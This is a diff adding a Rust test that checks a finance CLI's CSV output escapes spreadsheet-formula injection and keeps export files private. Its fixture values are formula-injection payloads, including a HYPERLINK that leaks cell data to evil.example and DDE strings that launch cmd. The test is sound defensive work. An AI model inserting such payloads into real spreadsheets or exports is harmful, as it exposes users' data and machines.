@@ -261,3 +261,65 @@ fn db_dir_file(db: &testing::TestDb, name: &str, text: &str) -> String {
 fn uuid_like() -> u128 {
     std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos()
 }
+
+/// Text from a bank file or a form never reaches a spreadsheet as a
+/// formula (issue 14): `-o csv` and `kassa export --format csv` escape it,
+/// amounts stay numbers, and the export is private to its owner.
+#[test]
+fn csv_output_cannot_carry_spreadsheet_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    for (db, k) in databases() {
+        k.ok(&["init"]);
+        k.ok(&["account", "add", "Checking", "--kind", "checking", "--currency", "EUR"]);
+        for (description, counterparty) in [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"refund\")", "@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
+        ] {
+            k.ok(&[
+                "tx",
+                "add",
+                "--account",
+                "Checking",
+                "--date",
+                "2024-03-01",
+                "--amount",
+                "-12.50",
+                &format!("--description={description}"),
+                &format!("--counterparty={counterparty}"),
+            ]);
+        }
+        let listed = k.ok(&["tx", "list", "-o", "csv"]);
+        let path = dir.path().join(format!("{}.csv", db.name));
+        k.ok(&["export", "--format", "csv", path.to_str().unwrap()]);
+        let exported = std::fs::read_to_string(&path).unwrap();
+        for (what, text) in [("tx list -o csv", &listed), ("export", &exported)] {
+            let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+            let header = reader.headers().unwrap().clone();
+            let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+            let (description, amount) = (column("description"), column("amount"));
+            let mut rows = 0;
+            for record in reader.records() {
+                let record = record.unwrap();
+                for cell in record.iter() {
+                    let starts = cell.chars().next();
+                    let numeric = cell.trim_start_matches('-').parse::<f64>().is_ok();
+                    assert!(
+                        !matches!(starts, Some('=' | '+' | '-' | '@' | '\t' | '\r')) || numeric,
+                        "{}: {what} writes a formula cell {cell:?}\n{text}",
+                        db.name
+                    );
+                }
+                assert!(record[description].starts_with("'=") || record[description].starts_with("'+"), "{record:?}");
+                assert!(matches!(&record[amount], "-12.50" | "12.50"), "{}: amounts stay numbers: {record:?}", db.name);
+                rows += 1;
+            }
+            assert!(rows >= 2, "{}: {what}\n{text}", db.name);
+        }
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+            assert_eq!(mode, 0o600, "{}: the export is readable by others", db.name);
+        }
+    }
+}
